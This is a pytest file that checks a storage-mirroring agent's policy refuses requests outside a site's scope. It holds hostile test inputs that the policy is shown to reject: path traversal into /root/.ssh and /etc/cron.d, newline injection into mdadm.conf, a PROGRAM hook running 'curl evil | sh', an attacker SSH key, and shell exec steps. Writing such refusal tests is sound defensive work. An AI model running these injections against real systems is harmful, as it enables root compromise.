"""The closed agent protocol (remirror.agent.policy, docs/security.md).

Two sides: everything the planner sends a site is inside the protocol and
the site's own scope (over the property tests' profiles and states), and
what an attacker holding the controller would send is refused, whole,
before any of it runs.
"""

from __future__ import annotations

import dataclasses
import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from remirror.agent import policy
from remirror.agent.policy import Refused, check_request
from remirror.errors import EXIT_BAD_INPUT
from remirror.facts.scope import SiteScope
from remirror.facts.site import SiteFacts
from remirror.plan import Action, make_plan, make_teardown
from remirror.profile import Profile, parse_profile
from remirror.profile.model import Site
from remirror.profile.names import array_uuid
from remirror.profile.scope import site_scope
from remirror.protocol import decode
from remirror.retention import Keep
from tests.unit.simulated_sites import Sites, wire
from tests.unit.test_plan_properties import PROFILES, SECRETS, bare_sites


def view(profile: Profile, site: str) -> Profile:
    """The profile as `site` holds it (the Ansible role's site view): itself local, the others not."""
    sites = {
        name: Site(host="local" if name == site else f"ssh://root@{name}", initiator=entry.initiator)
        for name, entry in profile.sites.items()
    }
    return profile.model_copy(update={"sites": sites})


def scope_of(profile: Profile, site: str) -> SiteScope:
    return site_scope([(f"/etc/remirror/{profile.name}.yaml", view(profile, site))])


@pytest.fixture(autouse=True)
def simulated_kernel_names(monkeypatch: pytest.MonkeyPatch) -> None:
    # The simulated sites' devices are not on this machine: each disk's kernel name is its number
    # (cache tables name disks so), and what exists of a site's scope is the disks it names.
    FACTS.clear()
    FACTS.update(bare_sites())
    monkeypatch.setattr(policy, "devno_name", lambda devno: f"devno-{devno}")
    monkeypatch.setattr(
        policy.Checker,
        "known",
        lambda self: {
            f"devno-{disk.devno}"
            for site in FACTS.values()
            for disk in site.disks.values()
            if self._named(disk.path)
        },
    )


FACTS: dict[str, SiteFacts] = {}  # the simulated sites as they are now, disks and dm devices


def planned(profile: Profile) -> list[Action]:
    """Every action the planner sends for `profile`: from bare sites, after convergence (the
    simulated sites' FACTS), and for teardown."""
    sites = Sites(bare_sites())
    plans = [make_plan(profile, sites.facts, SECRETS)]
    FACTS.update(sites.run(plans[0]))
    plans += [
        make_plan(profile, sites.facts, SECRETS),
        make_teardown(profile, profile.mirrors[0], sites.facts),
    ]
    return [action for plan in plans for action in plan.actions]


@pytest.mark.parametrize("name", sorted(PROFILES))
def test_every_step_the_planner_sends_a_site_is_inside_its_own_scope(name: str) -> None:
    profile = PROFILES[name]
    checked = 0
    for action in planned(profile):
        # Every site, the primary too: a controller elsewhere (a promotion) reaches it remotely.
        check_request({"op": "run", "steps": wire(action)}, scope_of(profile, action.site))
        checked += len(action.steps)
    assert checked > 10


def named_initiators(profile: Profile) -> Profile:
    """`profile` with each site's initiator named (`sites.NAME.initiator`), as the sites say."""
    from tests.unit.test_plan_properties import INITIATORS

    sites = {
        name: site.model_copy(update={"initiator": INITIATORS[name]}) for name, site in profile.sites.items()
    }
    return profile.model_copy(update={"sites": sites})


@pytest.mark.parametrize("name", ["sync-mutual-2r-export-lan", "async-none-1r-wan", "sync-generated-2r-wan"])
def test_with_named_initiators_every_step_is_still_inside_the_scope_and_acls_name_only_them(
    name: str,
) -> None:
    profile = named_initiators(PROFILES[name])
    acls = set()
    for action in planned(profile):
        scope = scope_of(profile, action.site)
        check_request({"op": "run", "steps": wire(action)}, scope)
        acls |= {
            (action.site, s["initiator"])
            for s in wire(action)
            if s["kind"] == "lio_set_acl" and s["iqn"] in {t for t in scope.iqns if ".export" not in t}
        }
    replicas = {leg.site for leg in profile.mirrors[0].replicas}
    assert acls == {(site, profile.sites["a"].initiator) for site in replicas}


LAB = """\
version: 1
name: lab
sites:
  a: {host: ssh://root@a}
  b: {host: local}
mirrors:
  - name: m0
    primary: {site: a, disk: /dev/a0}
    replicas: [{site: b, disk: /dev/b0, portal: 192.0.2.2:3260}]
"""
SCOPE = site_scope([("/etc/remirror/lab.yaml", parse_profile(LAB))])
IQN = "iqn.2026-11.org.remirror:lab.m0.b"
# The array's create, as a primary would send it (to site b here: what it may name there).
CREATE = {
    "kind": "md_create",
    "md": "/dev/md/m0",
    "name": "m0",
    "uuid": array_uuid(parse_profile(LAB), parse_profile(LAB).mirrors[0]),
    "metadata": "1.2",
    "legs": ["missing", "/dev/b0"],
    "bitmap_chunk": 64 << 20,
    "size": 1 << 30,
}


def table(*devices: str, target: str = "linear", **fields: Any) -> dict[str, Any]:
    """A device-mapper table as a step carries it (remirror.protocol.tables.DmTarget)."""
    return {"target": target, "sectors": 8, "devices": list(devices), **fields}


def refusal(request: dict[str, Any], scope: SiteScope | None = SCOPE) -> str:
    with pytest.raises(Refused) as refused:
        check_request(request, scope)
    return str(refused.value)


def run(*steps: dict[str, Any]) -> dict[str, Any]:
    return {"op": "run", "steps": list(steps)}


def test_the_scope_is_the_sites_own_disks_and_every_name_of_its_mirrors() -> None:
    assert SCOPE.disks == {"/dev/b0"}  # not the primary's disk
    assert SCOPE.arrays == {"/dev/md/m0"}
    assert SCOPE.iqns == {IQN, "iqn.2026-11.org.remirror:lab.m0.a"}
    assert SCOPE.portals == {("192.0.2.2", 3260)}
    check_request(run({"kind": "lio_create_backstore", "name": "m0-b", "dev": "/dev/b0"}), SCOPE)


@pytest.mark.parametrize(
    ("request_", "why"),
    [
        (
            run({"kind": "run", "argv": ["sh", "-c", "touch /tmp/x"]}),
            "step 'run' is not a step of the protocol",
        ),
        (run({"kind": "md_stop", "md": "/dev/md/m0", "argv": ["sh"]}), "argv is not a field of it"),
        (
            run({"kind": "write_file", "path": "/root/.ssh/authorized_keys", "content": "k"}),
            "not a step of the protocol",
        ),
        (
            run({"kind": "write_sysfs", "path": "/proc/sys/kernel/sysrq", "value": "1"}),
            "not a step of the protocol",
        ),
        (
            run(
                {
                    "kind": "md_attribute",
                    "md": "/dev/md/m0",
                    "attribute": "../../../proc/sys/kernel/sysrq",
                    "value": "1",
                }
            ),
            "is not one of sync_speed_min",
        ),
        (
            run({"kind": "md_zero_superblock", "device": "/dev/sda"}),
            "'/dev/sda' is not a device",
        ),
        (
            run({"kind": "md_member", "md": "/dev/md/m0", "op": "add", "device": "--config=/tmp/c"}),
            "'--config=/tmp/c' is not a device path",
        ),
        (
            run({"kind": "md_member", "md": "/dev/md/m0", "op": "add", "device": "detached"}),
            "'detached' is not a device path",  # md's words only where md takes them (fail, remove)
        ),
        (
            run({**CREATE, "legs": ["/dev/b0", "/dev/sda"]}),
            "'/dev/sda' is not a device",
        ),
        (run({**CREATE, "name": "m0-2"}), "mirror 'm0-2' is not one of"),
        (run({**CREATE, "uuid": "0a1b2c3d:0a1b2c3d:0a1b2c3d:0a1b2c3d"}), "is not mirror m0's array here"),
        (run({**CREATE, "md": "/dev/md/other"}), "'/dev/md/other' is not a device"),
        (run({**CREATE, "size": 1000}), "is not a size in MiB"),
        (run({**CREATE, "write_behind": 1 << 20}), "write-behind"),
        (run({**CREATE, "bitmap_chunk": 1}), "bitmap chunk of 1 bytes"),
        (run({"kind": "zero_head", "device": "/dev/sda"}), "/dev/sda"),
        (run({"kind": "md_stop", "md": "/dev/md/m0", "ok_codes": [0, 256]}), "exit codes are 0 to 255"),
        (run({"kind": "lio_create_backstore", "name": "m0-b", "dev": "/dev/sda"}), "/dev/sda"),
        (
            run({"kind": "lio_delete_target", "iqn": "iqn.2026-11.other:x"}),
            "target iqn.2026-11.other:x",
        ),
        (run({"kind": "lio_save", "path": "/etc/cron.d/x"}), "not where LIO"),
        (
            run({"kind": "lio_create_portal", "iqn": IQN, "address": "203.0.113.9", "port": 3260}),
            "portal",
        ),
        (
            run({"kind": "dm_create", "name": "evil", "table": table("/dev/b0")}),
            "'evil'",
        ),
        (
            run({"kind": "dm_reload", "name": "remirror-m0-b", "table": table("/dev/sda")}),
            "/dev/sda",
        ),
        (
            run({"kind": "dm_message", "name": "remirror-m0-cdp-pool", "message": "delete 1"}),
            "is not a step of the protocol",
        ),
        (
            run(
                {
                    "kind": "iscsi_node_update",
                    "target": IQN,
                    "address": "192.0.2.2",
                    "port": 3260,
                    "settings": {"node.session.auth.password": "x"},
                }
            ),
            "not a node setting",
        ),
        (
            run(
                {"kind": "save_ranges", "leg": "/dev/b0", "save": "/etc/cron.d", "mirror": "m0", "site": "b"}
            ),
            "not a path",
        ),
        (
            run({"kind": "save_ranges", "leg": "/dev/b0", "save": "../../etc", "mirror": "m0", "site": "b"}),
            "not a path",
        ),
        (
            run({"kind": "save_ranges", "leg": "/dev/b0", "save": "x", "mirror": "m0", "site": "../b"}),
            "not a site name",
        ),
        (run({"kind": "wireguard_key", "path": "/root/.ssh/id_ed25519"}), "WireGuard"),
        (  # a generation naming a site no profile here knows: the DR's promotion trusts no leg
            run(
                {
                    "kind": "leg_record_promote",
                    "devices": ["/dev/b0"],
                    "array": "2d34d75f:83405c70:a1da081f:25ecfd70",
                    "site": "remirror-m0-2-cdp-pool",
                    "after": 1,
                    "how": "forced",
                }
            ),
            "site 'remirror-m0-2-cdp-pool' is not one this site's profiles",
        ),
        (
            run({"kind": "member_state", "md": "/dev/md/m0", "device": "/dev/b0", "value": "faulty"}),
            "is not one of writemostly, -writemostly",
        ),
        (run({"kind": "cdp_deactivate", "mirror": "other", "views": []}), "mirror 'other'"),
        (run({"kind": "add_replica_legs", "md": "/dev/md/m0", "devices": ["/dev/sda"]}), "/dev/sda"),
        (run({"kind": "drop_bad_block_log", "md": "/dev/md/other", "device": "/dev/b0"}), "/dev/md/other"),
        (run({"kind": "reboot"}), "'reboot' is not a step"),
        ({"op": "observe", "disks": ["/dev/sda"]}, "/dev/sda"),
        ({"op": "observe", "disks": [], "portals": ["203.0.113.9:22"]}, "portal 203.0.113.9:22"),
        ({"op": "digest", "disk": "/dev/sda", "spans": [[0, 4096]]}, "/dev/sda"),
        ({"op": "cdp", "do": "list", "mirror": "other", "md": "/dev/md/other"}, "mirror 'other'"),
        (
            {"op": "cdp", "do": "prune", "mirror": "m0", "md": "/dev/md/m0", "older_than": 0},
            "only on the site",
        ),
        ({"op": "lock", "name": "../../etc/passwd"}, "not a lock name"),
        # The site's own points' and drills' locks: held, they stop its points and drills.
        ({"op": "lock", "name": "cdp-m0.b", "holder": "x", "wait": 0}, "takes only this site's 'site' lock"),
        ({"op": "lock", "name": "drill-m0.b", "holder": "x", "wait": 0}, "'site' lock"),
        ({"op": "unlock", "name": "cdp-m0.b"}, "'site' lock"),
        ({"op": "lock", "name": "site", "holder": "x", "wait": 1e9}, "a wait of"),
        ({"op": "lock", "name": "site", "holder": ["x"], "wait": 0}, "its holder is a text"),
        # Issue 44's escapes. A relative path in a table, which the kernel resolves from dmsetup's
        # working directory (seen in the lab: `linear ../dev/lab/b1 0` wrote another disk).
        (
            run({"kind": "dm_create", "name": "remirror-m0-b", "table": table("../dev/sda")}),
            "'../dev/sda' is not a device path",
        ),
        (run({"kind": "dm_reload", "name": "remirror-m0-b", "table": table("dev/sda")}), "'dev/sda'"),
        (
            run(
                {
                    "kind": "drain_cache",
                    "name": "remirror-m0-b",
                    "target": "writecache",
                    "cleaner_table": table("/dev/b0"),
                    "linear": table("./sda"),
                    "timeout": 60,
                }
            ),
            "'./sda'",
        ),
        # Words the kernel reads as devices that a word-by-word check would not (helper's review):
        # 0xA0 splits a word for the kernel, not for Python; before 6.5, `820` is 8:32 and
        # PARTUUID= a partition; a device with a tab or a space and more words after it; an
        # option that is a comment; a target remirror never sends; more devices than it maps.
        (
            run({"kind": "dm_reload", "name": "remirror-m0-b", "table": table("8:16\udca00")}),
            "is not a device path or MAJOR:MINOR",
        ),
        (run({"kind": "dm_reload", "name": "remirror-m0-b", "table": table("820")}), "'820' is not a device"),
        (run({"kind": "dm_reload", "name": "remirror-m0-b", "table": table("PARTUUID=ab-01")}), "PARTUUID"),
        (
            run({"kind": "dm_reload", "name": "remirror-m0-b", "table": table("/dev/b0\t0")}),
            "is not a device",
        ),
        (
            run(
                {
                    "kind": "dm_reload",
                    "name": "remirror-m0-b",
                    "table": table("/dev/b0 0\n0 8 linear /dev/sda"),
                }
            ),
            "is not a device",
        ),
        (
            run({"kind": "dm_reload", "name": "remirror-m0-b", "table": table("/dev/b0", options={"#": ""})}),
            "'#' '' is not an option of linear",
        ),
        (
            run({"kind": "dm_reload", "name": "remirror-m0-b", "table": table("/dev/b0", target="crypt")}),
            "is not one of linear, writecache, cache",
        ),
        (
            run(
                {
                    "kind": "dm_reload",
                    "name": "remirror-m0-b",
                    "table": table("/dev/b0", "sdq", target="writecache"),
                }
            ),
            "'sdq' is not a device path",
        ),
        (
            run({"kind": "dm_reload", "name": "remirror-m0-b", "table": table("/dev/b0", "/dev/b0")}),
            "a linear table maps 1 device(s)",
        ),
        (
            run({"kind": "dm_reload", "name": "remirror-m0-b", "table": {**table("/dev/b0"), "sectors": 0}}),
            "table of 0 sectors",
        ),
        (
            run(
                {
                    "kind": "dm_reload",
                    "name": "remirror-m0-b",
                    "table": table(
                        "/dev/b0",
                        "/dev/b0",
                        target="writecache",
                        block=4096,
                        options={"max_age": "1 /dev/sda"},
                    ),
                }
            ),
            "is not an option of writecache",
        ),
        # A node record's path made of the sender's text: out of /etc/iscsi, into authorized_keys.
        (
            run(
                {
                    "kind": "node_secrets",
                    "target": IQN,
                    "address": "../../../../var/tmp/a",
                    "port": "b/../../../root/.ssh",
                    "values": {"node.session.auth.password": "ssh-ed25519 AAAA attacker"},
                }
            ),
            "port: 'b/../../../root/.ssh' is not a whole number",  # refused as it is read
        ),
        (
            run(
                {
                    "kind": "node_secrets",
                    "target": IQN,
                    "address": "../../../../root/.ssh",
                    "port": 3260,
                    "values": {"node.session.auth.password": "ssh-ed25519 AAAA attacker"},
                }
            ),
            "is not an IP address or host name",
        ),
        (
            run(
                {
                    "kind": "node_secrets",
                    "target": IQN,
                    "address": "../../../../var/tmp/a",
                    "port": 3260,
                    "values": {},
                }
            ),
            "not an IP address or host name",
        ),
        (
            run(
                {
                    "kind": "node_secrets",
                    "target": IQN,
                    "address": "203.0.113.9",
                    "port": 3260,
                    "values": {"node.session.auth.password": "x"},
                }
            ),
            "portal 203.0.113.9:3260",
        ),
        (
            run(
                {
                    "kind": "node_secrets",
                    "target": IQN,
                    "address": "192.0.2.2",
                    "port": 3260,
                    "values": {"node.session.auth.password": "x\nnode.startup = automatic"},
                }
            ),
            "not one line",
        ),
        (
            run(
                {
                    "kind": "node_secrets",
                    "target": IQN,
                    "address": "192.0.2.2",
                    "port": 3260,
                    "values": {"node.startup": "automatic"},
                }
            ),
            "not a CHAP password setting",
        ),
        # Names that share a prefix: mirror m0's scope does not reach mirror m0-2's devices.
        (
            run({"kind": "dm_remove", "name": "remirror-m0-2-cdp-pool"}),
            "remirror-m0-2-cdp-pool",
        ),
        (
            run({"kind": "dm_remove", "name": "remirror-m0-cdp-at-1x"}),
            "remirror-m0-cdp-at-1x",
        ),
        (run({"kind": "lio_delete_backstore", "name": "m0-2-b"}), "backstore 'm0-2-b'"),
        (
            {"op": "digest", "disk": "/dev/mapper/remirror-m0-2-cdp", "spans": [[0, 4096]]},
            "remirror-m0-2-cdp",
        ),
        ({"op": "exec", "argv": ["sh"]}, "'exec' is not an operation"),
    ],
)
def test_what_the_site_does_not_name_is_refused_in_one_line(request_: dict[str, Any], why: str) -> None:
    message = refusal(request_)
    assert why in message
    assert "\n" not in message


def test_what_remirror_makes_for_the_sites_mirrors_is_named_exactly() -> None:
    ours = policy.Checker(SCOPE).ours
    for name in ("remirror-m0-b", "remirror-m0-b-meta", "remirror-m0-b-fast", "remirror-m0-cdp"):
        assert ours(name), name
    for part in ("-tmeta", "-emeta", "-tdata", "-pool", "-thin", "-drill", "-drill-data", "-at-12"):
        assert ours(f"remirror-m0-cdp{part}"), part
    # Not a site of this site's own (the primary's cache is site a's), not a prefix, not a part.
    for name in (
        "remirror-m0-a",
        "remirror-m0-2-cdp",
        "remirror-m0-b-x",
        "remirror-m0-cdp-at-",
        "remirror-m0",
    ):
        assert not ours(name), name


def test_chap_secrets_go_into_the_record_of_a_portal_of_the_scope() -> None:
    secret = {"node.session.auth.password": "s3cret with spaces", "node.session.auth.password_in": "x"}
    for address in ("192.0.2.2",):
        check_request(
            run({"kind": "node_secrets", "target": IQN, "address": address, "port": 3260, "values": secret}),
            SCOPE,
        )


def test_a_table_of_the_targets_remirror_sends_is_taken_with_its_devices_checked() -> None:
    for taken in (
        table("/dev/b0"),
        table(
            "/dev/b0",
            "/dev/b0",
            target="writecache",
            block=4096,
            options={"high_watermark": "50", "cleaner": ""},
        ),
        table("/dev/b0", "/dev/b0", "/dev/b0", target="cache", block=65536, policy="cleaner"),
    ):
        check_request(run({"kind": "dm_reload", "name": "remirror-m0-b", "table": taken}), SCOPE)
    drain = {"kind": "drain_cache", "name": "remirror-m0-b", "target": "writecache", "timeout": 60}
    # No cleaner table: a drain already under way sends none.
    check_request(run({**drain, "cleaner_table": None, "linear": table("/dev/b0")}), SCOPE)


def test_a_point_another_site_asks_for_is_taken_with_this_sites_own_retention(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # After a promotion this site runs m0 with its CDP; the old primary still holds the key.
    from remirror.agent.serve import _Gate

    (tmp_path / "lab.yaml").write_text(LAB + "    cdp: {every: 1h, keep: 7d}\n")
    monkeypatch.setattr(policy, "PROFILE_DIR", tmp_path)
    gate = _Gate(checked=True)
    assert gate.scope is not None
    assert gate.scope.retention == {"m0": (3600.0, Keep(all=7 * 86400.0))}
    asked = {"op": "cdp", "do": "point", "mirror": "m0", "md": "/dev/md/m0", "every": 1, "keep": 0}
    assert gate.refusal(asked) is None
    week = {"all": 7 * 86400.0, "hourly": 0.0, "daily": 0.0, "weekly": 0.0}
    assert gate.as_taken(asked) == {**asked, "every": 3600.0, "keep": week, "hooks": None, "force": False}
    # A mirror this site keeps no CDP of: no point at another site's word.
    assert "has no cdp" in refusal(asked)


def test_a_request_is_refused_whole_before_any_of_it_runs() -> None:
    good = {"kind": "lio_save", "path": "/etc/target/saveconfig.json"}
    assert "/dev/sda" in refusal(run(good, {"kind": "zero_head", "device": "/dev/sda"}))


def test_mdadm_conf_assembles_an_array_only_where_the_legs_own_record_says_it_runs(tmp_path: Path) -> None:
    """Site b's leg of m0 is a replica (the profile's home roles) until its record says a
    promotion made b the primary: only then may its boot assemble the array."""
    from remirror.agent.generations import create_step, promote_step
    from remirror.protocol.steps import LegRecordCreate, LegRecordPromote

    uuid = str(CREATE["uuid"])
    m0 = {"uuid": uuid, "device": "/dev/md/m0", "metadata": "1.2", "name": "m0"}
    leg = tmp_path / "b0"
    leg.write_bytes(bytes(8 << 20))
    scope = dataclasses.replace(SCOPE, leg_devices={"m0": frozenset({str(leg)})})
    assert "m0's leg here is a replica: its array does not assemble here" in refusal(
        run({"kind": "mdadm_conf", "arrays": [m0]}), scope
    )
    check_request(run({"kind": "mdadm_conf", "arrays": [{"uuid": uuid}]}), scope)  # <ignore>: always
    create_step(LegRecordCreate("m0", uuid, "a", (str(leg),)))
    assert "mirror m0 runs at site a (generation 1, its leg's record here)" in refusal(
        run({"kind": "mdadm_conf", "arrays": [m0]}), scope
    )
    promote_step(LegRecordPromote((str(leg),), uuid, "b", 1, "forced"))
    check_request(run({"kind": "mdadm_conf", "arrays": [m0]}), scope)
    # A record of another array (one the disk held before) says nothing of this one.
    create_step(LegRecordCreate("m0", "11111111:11111111:11111111:11111111", "b", (str(leg),)))
    assert "m0's leg here is a replica" in refusal(run({"kind": "mdadm_conf", "arrays": [m0]}), scope)


def test_mdadm_conf_takes_only_the_sites_own_arrays_once_each() -> None:
    uuid = CREATE["uuid"]
    m0 = {"uuid": uuid, "device": "/dev/md/m0", "metadata": "1.2", "name": "m0"}
    home = dataclasses.replace(SCOPE, home_primaries=frozenset({"m0"}))  # as if b were m0's primary
    check_request(run({"kind": "mdadm_conf", "arrays": [m0]}), home)
    check_request(run({"kind": "mdadm_conf", "arrays": [{"uuid": uuid}]}), SCOPE)
    # `<ignore>` of another array (the host's own system array's: boot would not assemble it).
    other = "11111111:11111111:11111111:11111111"
    assert f"<ignore> of {other}, not an array of" in refusal(
        run({"kind": "mdadm_conf", "arrays": [{"uuid": other}]})
    )
    assert "is not mirror m0's array here" in refusal(
        run({"kind": "mdadm_conf", "arrays": [{**m0, "uuid": other}]})
    )
    # One array in two lines: mdadm assembles none of them (the host's own arrays either).
    assert f"{uuid} is in two lines" in refusal(
        run({"kind": "mdadm_conf", "arrays": [m0, {"uuid": uuid}]}), home
    )
    # No line of the sender's text: a PROGRAM hook (mdadm --monitor would run it as root) has no field,
    # and a device is /dev/md/NAME, with no profile too (where any device is in scope).
    assert "program is not a field of it" in refusal(
        run({"kind": "mdadm_conf", "arrays": [{**m0, "program": "/bin/sh -c 'curl evil | sh'"}]})
    )
    for scope in (SCOPE, None):
        assert "is not an md array UUID" in refusal(
            run({"kind": "mdadm_conf", "arrays": [{"uuid": "1:2:3:4\nPROGRAM /bin/sh"}]}), scope
        )
        evil = {**m0, "device": "/dev/md/x\nPROGRAM /usr/bin/evil\nDEVICE /nonexistent"}
        assert "is not /dev/md/NAME" in refusal(run({"kind": "mdadm_conf", "arrays": [evil]}), scope)


def test_a_site_without_profiles_still_gets_the_closed_forms_with_any_block_device() -> None:
    assert "not a step of the protocol" in refusal(run({"kind": "run", "argv": ["bash"]}), None)
    assert "not a device path" in refusal(run({"kind": "zero_head", "device": "../etc/passwd"}), None)
    assert "not a block device" in refusal(
        run({"kind": "prove_blank", "device": "/dev/null", "timeout": 1}), None
    )
    check_request(run({"kind": "md_stop", "md": "/dev/md/whatever"}), None)


def test_a_profile_that_does_not_load_refuses_everything(tmp_path: Path) -> None:
    (tmp_path / "broken.yaml").write_text("version: 1\nname: [\n")
    with pytest.raises(Refused, match=r"broken\.yaml does not load"):
        policy.load_scope(tmp_path)
    assert policy.load_scope(tmp_path / "empty") is None


def test_an_agent_that_lives_on_reads_the_sites_profiles_again_when_they_change(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A controller's process keeps its agent between commands (remirror.agent.client): the
    # site's operator may meanwhile add, edit or break a profile.
    from remirror.agent.serve import _Gate

    monkeypatch.setattr(policy, "PROFILE_DIR", tmp_path)
    gate = _Gate(checked=True)
    assert gate.scope is None
    assert gate.broken is None
    observe = {"op": "observe", "disks": ["/dev/b0"]}
    assert gate.refusal(observe) is None  # no profile: any block device (checked as a device)
    (tmp_path / "lab.yaml").write_text(LAB)
    assert "is not a device this site's profiles" in refusal_of(
        gate, {"op": "observe", "disks": ["/dev/other"]}
    )
    assert gate.scope is not None
    assert "m0" in gate.scope.mirrors
    (tmp_path / "lab.yaml").write_text("version: 1\nname: [\n")
    assert "does not load" in refusal_of(gate, observe)
    (tmp_path / "lab.yaml").write_text(LAB)
    assert gate.refusal(observe) is None  # fixed: read again
    assert gate.scope is not None
    # A copy that keeps the size and sets the modification time back (`cp -p`, rsync -t): read.
    before = (tmp_path / "lab.yaml").stat()
    (tmp_path / "lab.yaml").write_text(LAB.replace("/dev/b0", "/dev/b9"))
    os.utime(tmp_path / "lab.yaml", ns=(before.st_atime_ns, before.st_mtime_ns))
    assert (tmp_path / "lab.yaml").stat().st_size == before.st_size
    assert gate.refusal({"op": "observe", "disks": ["/dev/b9"]}) is None
    assert "is not a device this site's profiles" in refusal_of(gate, observe)
    # Replaced by a rename (an editor, Ansible's copy): read.
    (tmp_path / "new").write_text(LAB)
    (tmp_path / "new").rename(tmp_path / "lab.yaml")
    assert gate.refusal(observe) is None
    # Unchanged: not read again.
    loads: list[object] = []
    monkeypatch.setattr(policy, "load_scope", lambda *args: loads.append(args))
    assert gate.refusal(observe) is None
    assert loads == []
    monkeypatch.undo()
    monkeypatch.setattr(policy, "PROFILE_DIR", tmp_path)
    (tmp_path / "lab.yaml").unlink()
    assert gate.refusal(observe) is None
    assert gate.scope is None


def test_the_refusals_log_line_says_what_was_tried_whatever_the_sender_asks_to_hide(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from remirror.agent import serve

    logged: list[str] = []
    monkeypatch.setattr(serve, "_refuse", logged.append)
    monkeypatch.setattr(policy, "PROFILE_DIR", tmp_path)
    (tmp_path / "lab.yaml").write_text(LAB)
    gate = serve._Gate(checked=True)
    acl = {
        "kind": "lio_set_acl",
        "iqn": IQN,
        "initiator": "iqn.2026-11.org.example:intruder",
        "lun": 0,
    }
    hidden = {**acl, "secrets": ["iqn.2026-11.org.example:intruder", "set_acl", "a"]}
    hidden["chap"] = {"username": "u", "password": "set_acl-intruder"}
    refusal_of(gate, run(hidden))
    assert "set_acl" in logged[-1]  # a secret the sender lists is not one: the line says what it was
    assert "set_acl-intruder" not in logged[-1]  # a CHAP password the step carries is kept out
    # Whatever breaks the check is refused, and logged: a number past what a float holds, a list
    # of secrets that is not one, steps that are not a list.
    for broken in (
        run({"kind": "wait_path", "path": "/dev/b0", "timeout": 10**400}),
        run({"kind": "md_stop", "md": "/dev/md/m0", "secrets": 5}),
        {"op": "run", "steps": 5},
    ):
        assert refusal_of(gate, broken).startswith("refused: ")
    assert len(logged) == 4


def refusal_of(gate: object, request: dict[str, object]) -> str:
    answer = gate.refusal(request)  # type: ignore[attr-defined]
    assert answer is not None, f"not refused: {request}"
    return str(answer["error"])


# --- the agent process, as sshd starts it ------------------------------------------------------


def _agent(args: list[str], stdin: str, **env: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "remirror", "agent", *args],
        input=stdin,
        capture_output=True,
        text=True,
        env={**os.environ, "SSH_CONNECTION": "192.0.2.1 40000 192.0.2.2 22", **env},
        timeout=60,
    )


def test_over_ssh_a_line_that_breaks_the_reader_is_refused_and_the_agent_answers_on() -> None:
    # Nested past Python's stack, not UTF-8: refused and logged, not the agent's end.
    # The last request is refused too: answered whatever stdin's end does (a request the agent
    # runs when stdin closes ends it, by design: its controller went).
    stdin = b"[" * 100_000 + b"\n\xff\n" + json.dumps({"op": "exec"}).encode() + b"\n"
    done = subprocess.run(
        [sys.executable, "-m", "remirror", "agent", "--serve"],
        input=stdin,
        capture_output=True,
        env={**os.environ, "SSH_CONNECTION": "192.0.2.1 40000 192.0.2.2 22"},
        timeout=60,
    )
    answers = [json.loads(line) for line in done.stdout.decode().splitlines()]
    assert answers[0]["error"] == "the request is not JSON: RecursionError"
    assert answers[1]["error"].startswith("the request is not JSON")
    assert answers[2]["refused"] is True  # the agent read on and checked it
    assert done.stderr.decode().count("refused: the request is not JSON") == 2


def test_over_ssh_a_command_is_refused_and_nothing_runs(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    request = run({"kind": "run", "argv": ["sh", "-c", f"touch {marker}"]})
    done = _agent(["--serve"], json.dumps(request) + "\n")
    answer = json.loads(done.stdout)
    assert answer["refused"] is True
    assert answer["commands"] == 0
    assert answer["error"] == "refused: step 'run' is not a step of the protocol"
    assert not marker.exists()


def test_the_forced_command_runs_only_the_agent(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    done = _agent(["--serve"], "", SSH_ORIGINAL_COMMAND=f"sh -c 'touch {marker}'")
    assert done.returncode == EXIT_BAD_INPUT
    assert done.stdout == ""
    assert "may only speak remirror's agent protocol" in done.stderr
    assert not marker.exists()
    # The controller's own command, with the SSH runner's env in front, is the agent.
    asked = "env LC_ALL=C PATH=/usr/bin remirror agent --serve"
    done = _agent(["--serve"], json.dumps({"op": "sink", "data": "x"}), SSH_ORIGINAL_COMMAND=asked)
    assert json.loads(done.stdout)["received"] == 1  # a last request without its newline too


# --- LIO as the site's own profiles make it (issue 44) -------------------------------------------

LIO_LAB = (
    LAB
    + """\
    export: {iqn: "iqn.2026-11.com.example:m0", portal: "192.0.2.2:3261", initiators: ["iqn.2026-11.com.example:app"]}
  - name: m1
    primary: {site: a, disk: /dev/a1}
    replicas: [{site: b, disk: /dev/b1, portal: 192.0.2.2:3262}]
    transport: wireguard
"""
)


def test_a_target_is_made_only_as_the_sites_own_profiles_make_it() -> None:
    from remirror.profile.wireguard import tunnel_address

    profile = parse_profile(LIO_LAB)
    scope = site_scope([("/etc/remirror/lab.yaml", profile)])
    m0, m1 = IQN, "iqn.2026-11.org.remirror:lab.m1.b"
    export = "iqn.2026-11.com.example:m0"
    tunnel = tunnel_address(profile, "b")
    chap = {"username": "remirror-lab-m0", "password": "x" * 16}
    mutual = {**chap, "mutual_username": "remirror-lab-m0", "mutual_password": "y" * 16}

    def lio(op: str, **fields: Any) -> dict[str, Any]:
        return run({"kind": f"lio_{op}", **fields})

    # What the planner sends (tests above: every plan's steps are in scope) is taken.
    for ok in (
        lio("create_target", iqn=m0, chap=True, parameters={}),
        lio("create_portal", iqn=m0, address="192.0.2.2", port=3260),
        lio("create_portal", iqn=m1, address=tunnel, port=3262),
        lio("create_lun", iqn=m0, lun=0, backstore="m0-b"),
        lio("set_acl", iqn=m0, initiator="iqn.2026-11.org.example:a", lun=0, chap=mutual),
        lio("create_target", iqn=export, chap=False, parameters={}),
        lio("set_acl", iqn=export, initiator="iqn.2026-11.com.example:app", lun=0),
        lio("create_backstore", name="m0-export", dev="/dev/md/m0"),
    ):
        check_request(ok, scope)
    refused = {
        "without CHAP is not as": lio("create_target", iqn=m0, chap=False, parameters={}),
        "m1.b listens only on": lio("create_portal", iqn=m1, address="192.0.2.2", port=3262),
        "LUN 0 serves m0-b": lio("create_lun", iqn=m0, lun=0, backstore="m0-export"),
        "ACLs carry CHAP": lio("set_acl", iqn=m0, initiator="iqn.2026-11.org.example:a", lun=0),
        "not for user 'evil'": lio(
            "set_acl",
            iqn=m0,
            initiator="iqn.2026-11.org.example:a",
            lun=0,
            chap={**mutual, "username": "evil"},
        ),
        "not for user 'remirror-lab-m0' (mutual ''": lio(
